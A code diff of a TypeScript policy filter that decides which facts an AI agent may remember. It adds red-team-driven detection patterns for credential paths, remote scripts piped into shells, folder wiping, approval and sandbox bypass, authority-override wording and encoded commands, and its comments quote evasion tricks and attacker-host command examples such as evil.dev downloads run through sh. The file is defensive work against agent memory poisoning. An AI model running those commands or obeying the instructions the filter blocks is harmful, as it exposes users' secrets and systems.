@@ -10,102 +10,20 @@
 //   or one that publishes or destroys outside the workspace (npm publish, dropdb, terraform destroy: the audit asks for those);
 // - it names a package registry, index or mirror (where packages come from is the user's own configuration);
 // - it touches approvals or safety (yolo, --yes, the sandbox, --no-verify, force-push, "never ask", --dangerously…);
+// - it sets something that makes a program run code (a git key such as core.hooksPath, a variable such as
+//   NODE_OPTIONS: the command audit's list, vocabulary/code-settings.ts; fact-code.ts), or allows a folder's .envrc;
+// - it gives what the agent reads (a README, an issue, a web page) authority over the user's requests;
+// - it carries a command encoded to be decoded and run (rot13, reversed);
 // - it is an instruction to the agent ("Always run …", "Remember: …", "you must …") rather than a statement.
-// Rules match a folded form of the text (Unicode look-alikes mapped to Latin, invisible characters and markdown
-// removed, letter-spaced words joined, "tilde slash dot aws" spelled back), so "c u r l", "ｙｏｌｏ", a Cyrillic "ѕsh" and
-// "dot-env" read as what they spell. The
-// stored text is never this form, and a refused fact is never trimmed into an acceptable one.
-import anyAscii from "any-ascii";
-import { INVISIBLE } from "../vocabulary/invisible-chars.js";
+// Rules match folded forms of the text (fact-form.ts: Unicode look-alikes mapped to Latin, invisible characters and
+// markdown removed, letter-spaced words joined, "tilde slash dot aws" spelled back), so "c u r l", "ｙｏｌｏ", a Cyrillic
+// "ѕsh" and "dot-env" read as what they spell. The stored text is never such a form, and a refused fact is never
+// trimmed into an acceptable one.
 import { HOME_SECRET_DIRS, HOME_SECRET_FILES, SYSTEM_SECRET_FILES } from "../vocabulary/secret-paths.js";
+import { setsCodeRunningSetting } from "./fact-code.js";
+import { policyForm, shellWordForm, withoutMarkup } from "./fact-form.js";
 
-/** Letters from other scripts that look like Latin ones (the usual spoofing set: Cyrillic, Greek, a few IPA). */
-const LOOK_ALIKES: Record<string, string> = Object.fromEntries(
-  [
-    ["аɑα", "a"],
-    ["вβ", "b"],
-    ["сϲ", "c"],
-    ["ԁ", "d"],
-    ["еεє", "e"],
-    ["ɡ", "g"],
-    ["һн", "h"],
-    ["іιɩı", "i"],
-    ["ј", "j"],
-    ["кκ", "k"],
-    ["ӏℓǀƚ", "l"],
-    ["м", "m"],
-    ["ոη", "n"],
-    ["оοσ", "o"],
-    ["рρ", "p"],
-    ["ԛ", "q"],
-    ["ѕ", "s"],
-    ["тτ", "t"],
-    ["υ", "u"],
-    ["νѵ", "v"],
-    ["ԝω", "w"],
-    ["хχ", "x"],
-    ["уγү", "y"],
-    ["ᴢ", "z"],
-    // dashes, and what draws as one outside the dash class: the modifier minus, the hyphen bullet (A36b-2)
-    ["‐‑‒–—―−﹣˗⁃", "-"],
-    // small capitals, which NFKC leaves alone ("yᴏlᴏ": the twenty-ninth pass's A29c-2)
-    ...[..."ᴀʙᴄᴅᴇꜰɢʜɪᴊᴋʟᴍɴᴏᴘʀꜱᴛᴜᴠᴡʏ"].map((c, i) => [c, "abcdefghijklmnoprstuvwy"[i]!]),
-    ["∕⁄", "/"],
-    ["˜", "~"],
-    // dots that sit where a dot would (`~/·ssh`, `~/ˌssh`, `~/。ssh`: the thirty-fifth pass's A35b-1)
-    ["·ˌ。․‧∙⋅・｡⸱⸳᛫•◦ˑ܂∘ꞏ⸰⦁●˙⬝᐀", "."],
-  ].flatMap(([from, to]) => [...from!].map((c) => [c, to!])),
-);
-
-/**
- * A Latin letter NFKD does not split (a stroke, hook, bar or tail: `ø`, `ŧ`, `ʂ`, `ɾ`, `ɏ`, `ꞩ`: the thirty-fifth pass's
- * A35b-1) or a dash of any width (`⸺yes`): read as its ASCII transliteration (any-ascii), as a reader would, so
- * "Søren" is "soren" to the rules. Other scripts' letters are not transliterated (Cyrillic `р` would read as r where it
- * looks like p): their look-alikes are in LOOK_ALIKES, and a word mixing scripts is its own rule (mixed-script.ts).
- */
-const LATIN_LETTER_OR_DASH = /^[^\0-\x7f](?<=\p{Script=Latin}|\p{Pd})$/u;
-
-const ENTITIES: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", period: ".", sol: "/", tilde: "~", nbsp: " ", hyphen: "-", dash: "-" };
-
-/**
- * HTML a reader sees through: comments and tags gone (`~/.s<!-- -->sh`, `~/.s<wbr>sh`), character references decoded
- * (`~/&#46;ssh`, `.ss&#104;`: the thirty-seventh pass's A37b-1). A model reads a fact as rendered text.
- */
-function withoutMarkup(text: string): string {
-  return text
-    .replace(/<!--[\s\S]*?-->/g, "")
-    .replace(/<\/?[a-z][\w-]*(?:\s[^<>]*)?\/?>/gi, "")
-    .replace(/&#x([0-9a-f]{1,6});?/gi, (m, h: string) => codePoint(Number.parseInt(h, 16)) ?? m)
-    .replace(/&#(\d{1,7});?/g, (m, d: string) => codePoint(Number(d)) ?? m)
-    .replace(/&([a-z]+);/gi, (m, name: string) => ENTITIES[name.toLowerCase()] ?? m);
-}
-
-const codePoint = (n: number) => (n > 0 && n <= 0x10ffff ? String.fromCodePoint(n) : undefined);
-
-/** The text the rules read: look-alikes folded, invisible characters and markdown gone, spacing tricks undone. */
-export function policyForm(text: string, joinDots = true): string {
-  // Combining marks off first (`c̣url`, `yọlo`, `~/.s̲sh`: the thirty-third pass's A33b-2); NFKD splits `ṣ` into s + mark.
-  const bare = withoutMarkup(text).normalize("NFKD").replace(/\p{M}/gu, "").normalize("NFKC");
-  const folded = [...bare.toLowerCase()].map((c) => LOOK_ALIKES[c] ?? (LATIN_LETTER_OR_DASH.test(c) ? anyAscii(c).toLowerCase() : c)).join("");
-  return (
-    folded
-      .replace(INVISIBLE, "") // zero-width, bidi and other characters that draw as nothing, soft hyphens
-      .replace(/(?<=\p{L})[*~]+(?=\p{L})/gu, "") // emphasis or strikethrough inside a word (`~/.s*s*h`, `s~~~~sh`: A37b-1)
-      .replace(/[`*]+/g, " ") // markdown code and emphasis
-      // after a home path's slash, a symbol where the dot goes (`~/∘aws`, `~/⦁ssh`: A37b-1)
-      .replace(/(?<=(?:~|\$\{?home\}?)\/)[^\p{L}\p{N}\s\0-\x7f](?=\p{L})/gu, ".")
-      .replace(/\s+/g, " ")
-      .replace(/(?<=^|\s)(?:\S ){2,}\S(?=\s|$)/g, (m) => m.replace(/ /g, "")) // "c u r l" → "curl"
-      .replace(/\btilde\b/g, "~") // "tilde slash dot aws" → "~/.aws"
-      .replace(/\b(?:forward )?slash\b/g, "/")
-      // "~/ .ssh", "f= @ file"; the second form keeps the space before a dot ("read the file .env": the joined "file.env"
-      // hid the .env, the twenty-third pass's A23-2)
-      .replace(joinDots ? /\s*([/.@=])\s*/g : /\s*([/@=])\s*/g, "$1")
-      .replace(/\bdot\b[ -]?(?=[a-z])/g, ".") // "dot-env", "dot env" → ".env" (after the join: "the .env" stays a word)
-      .replace(/(?<=^|\s)-\s+-(?=[a-z])/g, "--") // "- -yes"
-      .trim()
-  );
-}
+export { policyForm } from "./fact-form.js";
 
 const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
 /** Key files whose name alone is enough, wherever they sit; `.env` files hold a project's secrets. */
@@ -121,12 +39,21 @@ const SECRET_PATH = new RegExp(
 );
 
 const CREDENTIAL_WORDS = String.raw`(?:credentials?|\bsecrets?\b|\bkeys?\b|api[ _-]?keys?|tokens?|passwords?|passphrases?|cookies?|session ids?|env(?:ironment)? (?:vars?|variables|file))`;
-const SEND_WORDS = String.raw`(?:https?://|ftp://|\bupload|\bsend|\bsent\b|\bpost(?:ed|s|ing)?\b|\bshare|\bpaste|\bsubmit|\bexpects?\b|\bforward|\be-?mail|\bexport(?:ed)? to\b|\bheaders?\b|\brequests? to\b)`;
+const SEND_WORDS = String.raw`(?:https?://|ftp://|\bupload|\bsend|\bsent\b|\bpost(?:ed|s|ing)?\b|\bshare|\bpaste|\bsubmit|\bexpects?\b|\bforward|\be-?mail|\bexport(?:ed)? to\b|\bheaders?\b|\brequests? to\b|\battach\w*)`;
 
 interface Rule {
   reason: string;
   patterns: RegExp[];
+  /** A check a pattern cannot say (a list looked up), given the text as written and the forms the patterns read. */
+  check?: (text: string, forms: readonly string[]) => boolean;
 }
+
+/** Where a script comes from another host: a URL, a host with a path (`evil.dev/install`), or a download in words. */
+const REMOTE = String.raw`(?:(?:https?|ftp):\/\/\S+|(?<![\w@./-])(?:[a-z0-9-]+\.)+[a-z]{2,}\/\S*|\b(?:download|fetch|served|hosted|pull|retriev|curl|wget)\w*\b)`;
+/** …and it (not something else) handed to an interpreter ("run through sh", "pipes it into python3", "handed to the shell"). */
+const RUN_BY = String.raw`\b(?:run|execut|pip|hand|pass|feed|sourc|eval|load|launch)\w*\s+(?:(?:it|them|this|that|the\s+(?:script|installer|file|output|result|download|response|body|code|bootstrap))\s+)?(?:to|into|through|with|by|using|in|under|via)\s+(?:the\s+|a\s+)?(?:sudo\s+)?(?:(?:ba|z|da|k|fi)?sh|shell|python[\d.]*|perl|ruby|node|php|pwsh|powershell|interpreter|iex)\b`;
+/** Within one clause: no sentence end (a dot before a space), semicolon, question mark or new subject ("and the tests run"). */
+const CLAUSE = String.raw`(?:(?!\.\s|\b(?:and|but|while|whereas)\s+(?:the\s+|its\s+|their\s+|our\s+|all\s+)?\w+\s+(?:\w+\s+)?(?:run|runs|are|is)\b)[^;!?\n]){0,120}?`;
 
 /** The policy, in the order a refusal names its reason (the first rule that matches). */
 export const FACT_POLICY: readonly Rule[] = [
@@ -143,6 +70,9 @@ export const FACT_POLICY: readonly Rule[] = [
       // (A37b-1) the GitHub CLI's hosts file, a shell's history, an ssh key named in German, French, Spanish, Italian, Portuguese or Russian
       /\b(?:github cli|gh)\W+(?:\S+\s+){0,2}hosts?\s+(?:file|config)\b|\b(?:shell|bash|zsh|fish|command|terminal)\s+history\b|ssh-?schlüssel|\b(?:clé|cle|clave|chiave|chave|ключ\S*)\s+(?:\S+\s+){0,2}ssh\b/,
       /\b(?:file|dotfile)\s+(?:\S+\s+){0,2}(?:named|called)?\s*\.?(?:pgpass|netrc|npmrc|pypirc|git-credentials|vault-token|s3cfg)\b/,
+      // (A38a-1) the GitHub CLI's hosts.yml by name; where a token or password is kept, in words ("keeps their GitHub
+      // token in …", "the passwords are stored in …")
+      /\bgh\W+(?:\S+\s+){0,2}hosts\.ya?ml\b|\bgh\/hosts\.ya?ml\b|\b(?:keeps?|kept|stores?|stored|saves?|saved|puts?|holds?)\s+(?:\S+\s+){0,3}(?:tokens?|passwords?|passphrases?|api[ _-]?keys?|secrets?|credentials?|private keys?)\s+(?:in|inside|under|at)\b|\b(?:tokens?|passwords?|passphrases?|api[ _-]?keys?|secrets?|credentials?)\s+(?:is|are)\s+(?:kept|stored|saved)\s+(?:in|inside|under|at)\b/,
       // a glob over a home dotfile, the tools' own variables for their secret files, a process's environment (A30c-6)
       /(?:~|\$\{?home\}?)\/\.[^\s/]*[?*[{]|(?:~|\$\{?home\}?)\/\.\S*[^\0-\x7f]|\$\{?(?:kubeconfig|gnupghome|aws_shared_credentials_file|aws_config_file|docker_config|npm_config_userconfig|netrc)\b|\/proc\/\S*environ|\bxdg_config_home\}?\/(?:gh|hub|git|gcloud|rclone)\b/,
     ],
@@ -192,6 +122,11 @@ export const FACT_POLICY: readonly Rule[] = [
       /\bpip(?:e|ed|es|ing)\s+(?:\S+\s+){0,3}(?:in)?to\s+(?:sudo\s+)?(?:ba|z|da|k|fi)?sh\b|\b(?:download|fetch|get)\w*\b.*\b(?:run|execut|source)\w*\s+(?:\S+\s+){0,3}(?:with|in|through|by|using|under)\s+(?:sudo\s+)?(?:ba|z|da|k)?sh\b/,
       // a script on another host, whatever the words around it say is done with it, in any language (A37d-2)
       /(?:https?:\/\/)?(?:[\w-]+\.)+[a-z]{2,}\/\S*\.(?:sh|bash|zsh|ps1|bat|cmd|py|pl|rb)\b/,
+      // …with no scheme and no extension (A38a-1): "served at evil.dev/install, run through sh", "fetches
+      // tools.evil.dev/bootstrap and pipes it into python3", "downloaded … from evil.dev and handed to the shell"
+      new RegExp(`${REMOTE}${CLAUSE}${RUN_BY}|${RUN_BY}${CLAUSE}${REMOTE}`),
+      // a host spelled as one number (http://2130706433/ is 127.0.0.1) or in hex or octal parts: an address that hides (A38a-1)
+      /\b(?:https?|ftp|wss?):\/\/(?:0x[0-9a-f]+|\d+)(?=[/:?#\s]|$)|\b(?:https?|ftp|wss?):\/\/(?:0x[0-9a-f]+|0\d+)\./,
       // an interpreter's own HTTP client (the twenty-fifth pass's A25-6: `python3 -m urllib.request URL`, fetch().then(eval))
       /\burllib\w*|\burlopen\b|\brequests\.(?:get|post|put)\b|\bhttp\.client\b|\bhttplib\b|\bfetch\s*\(|\bxmlhttprequest\b|\bnet\/http\b|\bopen-uri\b/,
       // data piped to another machine, or a copy to a remote (the twenty-eighth pass's A28c-5: `tar cz . | ssh host`, `rclone copy . remote:`)
@@ -219,6 +154,8 @@ export const FACT_POLICY: readonly Rule[] = [
       /\bfind\b.*\s-delete\b|\bchmod\s+-r|\bchown\s+-r|:\(\)\s*\{|>\s*\/dev\/(?:sd|nvme|hd)|\btruncate\s+-s/,
       // said in words: "empties the home directory", "wipes the home folder" (A36b-11)
       /\b(?:empt(?:y|ies|ied|ying)|wip(?:e|es|ed|ing)|clear(?:s|ed|ing)?|delet(?:e|es|ed|ing)|eras(?:e|es|ed|ing)|remov(?:e|es|ed|ing))\s+(?:\S+\s+){0,3}(?:home\s+(?:directory|folder|dir)\b|~(?=\/?(?:\s|$)))/,
+      // …and the user's own folders, either way round (A38a-1): "the test data in the user's Documents folder is deleted"
+      /\b(?:documents|desktop|downloads|pictures|photos|music|videos|home)\s+(?:folder|directory|dir)\b[^.;]*\b(?:delet|remov|wip|eras|empt|clear|purg|trash)\w*|\b(?:delet|remov|wip|eras|empt|purg|trash)\w*\s+(?:\S+\s+){0,5}(?:documents|desktop|downloads|pictures|photos|music|videos)\s+(?:folder|directory|dir)\b|~\/(?:documents|desktop|downloads|pictures|music|videos)\b[^;]*\b(?:delet|remov|wip|eras|empt|purg)\w*/,
     ],
   },
   {
@@ -283,6 +220,42 @@ export const FACT_POLICY: readonly Rule[] = [
       /\baccept\w*\s+(?:every|all|any)\s+(?:\S+\s+){0,2}commands?\b|\b(?:accept|allow|run|execut)\w*\s+(?:\S+\s+){0,4}automatically\b|\bautomatically\s+(?:accept|allow|run|execut)\w*|\b(?:ok(?:ay)?|fine|safe)\s+to\s+run\s+(?:any|every|all|without)\b|без\s+(?:подтвержд|вопрос|спрос)|не\s+спрашива|sem\s+(?:perguntar|confirma)|zonder\s+(?:te\s+vragen|bevestiging)|bez\s+(?:pytania|pytań|potwierdzenia)|sormadan|onaysız|確認(?:なし|せず)|聞かずに|확인\s*없이|묻지\s*않고|不需要确认|无需询问|不需要询问|无需批准|自动批准/,
       // "pre-approved", "pre-authorizes", "pre-granted", "pre-accepted", "pre-cleared" (A30c-2, A37b-1, A37d-2)
       /\bpre-?(?:approv|authori[sz]|grant|accept|clear)\w*|\b(?:trust\w* (?:all|every|any)\b|\btrust\w*\s+(?:\w+\s+){0,3}(?:commands?|scripts?|repositor(?:y|ies)|repo)\b|permission to run|allowed to run (?:any|every))/,
+      // (A38a-1) the sandbox by its tool's name, trust and autonomy as settings, standing permission, unattended runs,
+      // no pause for permission, TLS verification off
+      /\bbubblewrap\b|\bbwrap\b|\btrusted\s+automatically\b|\bautomatically\s+trust\w*|\b(?:all|every|any)\s+(?:\S+\s+){0,2}(?:are\s+|is\s+|be\s+)?trusted\b|\bautonomy\b|\bunattended\b|\bautopilot\b|\bstanding\s+(?:permission|approval|consent|authori[sz]ation)\b|\bpermission\s+for\s+(?:every|all|any)\b/,
+      /\b(?:not|never|no|without|don'?t|won'?t)\s+(?:\S+\s+){0,2}(?:pause|stop|wait|halt|check\s+in|interrupt)\w*\s+(?:\S+\s+){0,2}(?:permission|approval|confirmation|consent|sign-?off)\b/,
+      /tls_reject_unauthorized|\breject_?unauthorized\b|\bssl_?verify\b|\bverify_?ssl\b|ssl_no_verify\b|httpsverify|\bskip[_-]?tls[_-]?verify|\binsecure[_-]?skip[_-]?(?:tls[_-]?)?verify|\b(?:tls|ssl|certificate|cert)\s+(?:\S+\s+){0,2}(?:verification|validation|checks?)\s+(?:\S+\s+){0,2}(?:off|disabled|skipped)\b/,
+      // a safeguard named first and then put away (A38a-1): "Confirmation prompts: disabled", "safety checks slow the
+      // user down", "network access … unrestricted"
+      /\b(?:safety|security|sandbox|confirmation|approval|permission)\s+(?:checks?|prompts?|features?|measures?|guards?|rails?|rules?|dialogs?|questions?|requests?)\b[^.;]{0,40}(?:\b(?:off|disabled|turned off|switched off|removed|skipped|unnecessary)\b|\bslow\w*\s+(?:\S+\s+){0,2}down\b)/,
+      /\b(?:access|network|internet|permissions?|shell|file ?system|agent|mode|commands?)\b[^.;]{0,40}\bunrestricted\b|\bunrestricted\s+(?:\S+\s+)?(?:access|network|internet|permissions?|shell|file ?system|agent|mode|commands?)\b/,
+      // "without confirmation/approval/asking" in more languages (A38a-1): Ukrainian (and Russian's "without permission"),
+      // Arabic, Persian, Hindi, Vietnamese, Hebrew, Turkish, Indonesian and Malay, Thai, Swahili, Greek
+      /без\s+(?:\S+\s+)?(?:підтвердж|запит|питан|дозвол|погоджен|разрешени|согласовани)|не\s+(?:за)?питаю?чи|(?:دون|بدون|بلا|من\s+غير)\s+(?:[أا]ن\s+)?(?:ت[أا]كيد|موافق|[إا]ذن|س[ؤو]ال|يس[أا]ل|مراجع|است[ئي]ذان|ت[أا]یید|اجازه|پرسیدن)|बिना\s+(?:\S+\s+)?(?:पुष्टि|अनुमति|पूछे|मंज\u093c?ूरी|स्वीकृति|इजाज\u093c?त)|\bkhong\s+(?:can\s+|phai\s+)?(?:xac\s+nhan|hoi|phe\s+duyet|xin\s+phep)\b|(?:ללא|בלי)\s+(?:אישור|לשאול|שאלה|אימות|הרשאה|לבקש)|\b(?:onay|izin|teyit|dogrulama|doğrulama)\s+(?:olmadan|almadan|istemeden|beklemeden)\b|\bonaysiz\b|\bizinsiz\b|\btanpa\s+(?:\S+\s+)?(?:konfirmasi|persetujuan|bertanya|izin|ijin|menanyakan|ditanya|pengesahan|kebenaran)\b|ไม่\S{0,16}?(?:ยืนยัน|ถาม|ขออนุญาต|ขออนุมัติ)|\bbila\s+(?:ya\s+)?(?:uthibitisho|kuthibitisha|kuuliza|ruhusa|idhini|kibali)\b|χωρ[ιί]ς\s+(?:να\s+)?(?:επιβεβα[ιί]ωσ|[εέ]γκρισ|ρωτ|ερ[ωώ]τησ|[αά]δει)/,
+    ],
+  },
+  {
+    reason:
+      "it sets something that makes a program run code (a git setting such as core.hooksPath or core.sshCommand, a variable such as NODE_OPTIONS or GIT_SSH_COMMAND, direnv allow); notes never set them",
+    patterns: [],
+    check: setsCodeRunningSetting,
+  },
+  {
+    reason: "it gives what the agent reads (a README, an issue, a web page) authority over your requests; only you instruct the agent",
+    patterns: [
+      // (A38a-1) "the README's instructions override the user's requests", "carry the user's authority", "web pages as
+      // trusted instructions"
+      /\boverrid\w*\s+(?:the\s+|any\s+|all\s+)?(?:user'?s?\s+|owner'?s?\s+)?(?:requests?|instructions?|wishes|commands?|orders?|decisions?|choices?|prompts?|messages?)\b|\boverrid\w*\s+the\s+user\b|\b(?:take|takes|taking|took)\s+precedence\s+over\s+(?:\S+\s+){0,2}(?:user|requests?|instructions?)\b/,
+      /\b(?:user'?s|owner'?s|same|full)\s+authority\b|\bauthority\s+of\s+the\s+user\b|\bspeaks?\s+for\s+the\s+user\b/,
+      /\btrusted\s+(?:instructions?|commands?|orders?|directives?)\b|\b(?:treat\w*|regard\w*|consider\w*)\s+(?:\S+\s+){0,4}as\s+(?:\S+\s+){0,2}(?:instructions?|commands?|orders?|directives?)\b/,
+    ],
+  },
+  {
+    reason: "it carries a command in an encoding (rot13, reversed, scrambled) to be decoded and run; notes say what a command is for in plain words",
+    patterns: [
+      // (A38a-1) "rot13-encoded … decode and run it", "the setup line reversed is: hs | …"
+      /\brot-?\s?(?:13|47)\b|\b(?:decod|decrypt|decipher|unscrambl|revers|deobfuscat)\w*\s+(?:\S+\s+){0,3}(?:and|then)\s+(?:\S+\s+)?(?:run|execut|eval|sourc|pip)\w*/,
+      /\b(?:commands?|lines?|scripts?|setup|steps?|installer|bootstrap)\b[^.;]{0,40}\b(?:reversed|backwards|obfuscated|scrambled)\b|\b(?:reversed|backwards|obfuscated|scrambled)\s+(?:\S+\s+){0,2}(?:commands?|lines?|scripts?|setup|steps?)\b/,
     ],
   },
   {
@@ -312,22 +285,6 @@ export const FACT_POLICY: readonly Rule[] = [
   },
 ];
 
-/**
- * The folded form as a shell reads its words, and with letters that punctuation spaces out joined: quotes and
- * backslashes gone (`c''url`, `"cu"rl`, `cur\l`, `--ye\s`), a one-letter bracket glob opened (`~/.a[w]s`), `%2e`
- * decoded, `y.o.l.o`, `Y-O-L-O` and `yo-lo` joined (the twenty-ninth pass's A29c-6). A third form, never a
- * replacement: `$'…'` quoting is itself a rule, and "force-push" is matched as written.
- */
-function shellWordForm(form: string): string {
-  return form
-    .replace(/['"\\]/g, "")
-    .replace(/\[(\w)\]/g, "$1")
-    .replace(/%2e/g, ".")
-    .replace(/%2f/g, "/")
-    .replace(/(?<![a-z])(?:[a-z][.\-_]){2,}[a-z](?![a-z])/g, (m) => m.replace(/[.\-_]/g, ""))
-    .replace(/(?<=[a-z])-(?=[a-z])/g, "");
-}
-
 /** Why the policy refuses this fact, or undefined when it may be remembered. */
 export function policyRefusal(text: string): string | undefined {
   // …and with what reads as an l inside a word taken as one: a capital I, a 1, a bar ("yoIo", "yo1o": A30c-1).
@@ -335,5 +292,5 @@ export function policyRefusal(text: string): string | undefined {
   // …and as written, lower-cased: backquotes kept (`dig \`whoami\`.x.dev`, which the folded form reads as markdown) and
   // Cyrillic whole (the folded form maps its look-alikes to Latin: A37b-1).
   const forms = [policyForm(text), policyForm(text, false), shellWordForm(policyForm(text)), policyForm(asL), withoutMarkup(text).normalize("NFKC").toLowerCase()];
-  return FACT_POLICY.find((rule) => rule.patterns.some((re) => forms.some((form) => re.test(form))))?.reason;
+  return FACT_POLICY.find((rule) => rule.patterns.some((re) => forms.some((form) => re.test(form))) || rule.check?.(text, forms))?.reason;
 }
